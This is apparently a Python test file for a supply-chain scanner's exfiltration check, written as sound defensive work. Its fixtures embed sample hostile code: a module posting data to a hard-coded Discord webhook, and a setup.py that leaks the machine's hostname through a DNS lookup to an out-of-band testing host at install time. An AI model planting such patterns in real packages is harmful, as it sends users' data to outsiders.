from warden.checks.base import Classification
from warden.checks.builtin.exfiltration import Exfiltration

from .helpers import flagged, scan, sdist, wheel

HOOK = "https://discord.com/api/webhooks/123456789012345678/" + "x" * 68


def test_hard_coded_discord_webhook_in_code_is_malicious():
    dist = wheel({"demo/stats.py": f"""
import requests
HOOK = "{HOOK}"

def report(data):
    requests.post(HOOK, json={{"content": data}})
"""})
    verdict = scan(Exfiltration, dist)
    assert verdict.classification is Classification.MALICIOUS
    assert verdict.evidence[0].rule == "discord-webhook"


def test_out_of_band_testing_host_in_setup_py_is_malicious():
    dist = sdist({"setup.py": """
import socket
socket.gethostbyname(socket.gethostname() + ".abc123.oastify.com")
"""})
    assert scan(Exfiltration, dist).classification is Classification.MALICIOUS


def test_chat_library_that_builds_webhook_urls_from_parameters_is_clean():
    dist = wheel({"demo/webhook.py": """
import requests

class Webhook:
    def __init__(self, id, token):
        self.url = f"https://discord.com/api/webhooks/{id}/{token}"

    def send(self, text):
        return requests.post(self.url, json={"content": text})

API = "https://api.telegram.org/bot{token}/{method}"
"""})
    assert not flagged(scan(Exfiltration, dist))


def test_raw_ip_addresses_in_tests_and_runtime_code_are_clean():
    dist = sdist({"tests/test_client.py": """
import requests
def test_ip():
    requests.get("http://93.184.216.34/")
""", "demo/client.py": """
import requests
MIRRORS = ["http://154.35.175.225:80/status"]
def fetch(i):
    return requests.get(MIRRORS[i])
"""})
    assert not flagged(scan(Exfiltration, dist))
